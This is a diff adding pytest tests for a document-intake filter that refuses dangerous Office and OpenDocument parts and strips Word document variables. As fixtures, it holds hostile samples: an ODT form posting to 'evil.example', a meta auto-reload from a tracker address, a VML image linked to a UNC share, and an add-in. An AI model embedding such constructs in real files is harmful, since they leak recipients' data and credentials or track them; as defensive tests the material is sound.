@@ -446,3 +446,33 @@ def test_loose_vml_as_office_writes_it_is_checked_without_being_refused_as_damag
     assert intake(ooxml("xlsx", extra=[("xl/drawings/vmlDrawing1.vml", loose)])).kind == "office"
     hostile = loose.replace(b"<br>", b'<br><v:imagedata o:href="\\\\files.example\\share\\p.png"/>')
     assert "a drawing (VML)" in refusal(ooxml("xlsx", extra=[("xl/drawings/vmlDrawing1.vml", hostile)]))
+
+
+def test_office_add_in_is_refused():
+    data = ooxml("docx", extra=[("word/webextensions/webextension1.xml", b"<we:webextension xmlns:we='x'/>")])
+    assert "an Office add-in (web extension)" in refusal(data)
+
+
+@pytest.mark.parametrize(
+    ("body", "found"),
+    [
+        ('<text:p><form:form xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0" '
+         'xlink:href="https://evil.example/collect" form:method="post"/></text:p>', "a form that sends"),
+    ],
+)
+def test_odt_form_that_sends_is_refused(body, found):
+    assert found in refusal(odt_with(odt_content(body)))
+
+
+def test_odt_meta_that_reloads_from_an_address_is_refused():
+    meta = (f'<office:document-meta {ODF_NS}><office:meta>'
+            '<meta:auto-reload xlink:href="https://tracker.example/next.odt" meta:delay="PT0S"/>'
+            "</office:meta></office:document-meta>")
+    assert "loaded from another address" in refusal(odt(extra=[("meta.xml", meta.encode())]))
+
+
+def test_word_document_variables_are_removed():
+    settings = (f'<w:settings {W}><w:docVars><w:docVar w:name="CaseOwner" w:val="Jane Caseworker"/></w:docVars>'
+                '<w:defaultTabStop w:val="720"/></w:settings>')
+    stored = entries(intake(ooxml("docx", extra=[("word/settings.xml", settings.encode())])).content)
+    assert b"Jane" not in stored["word/settings.xml"] and b"defaultTabStop" in stored["word/settings.xml"]
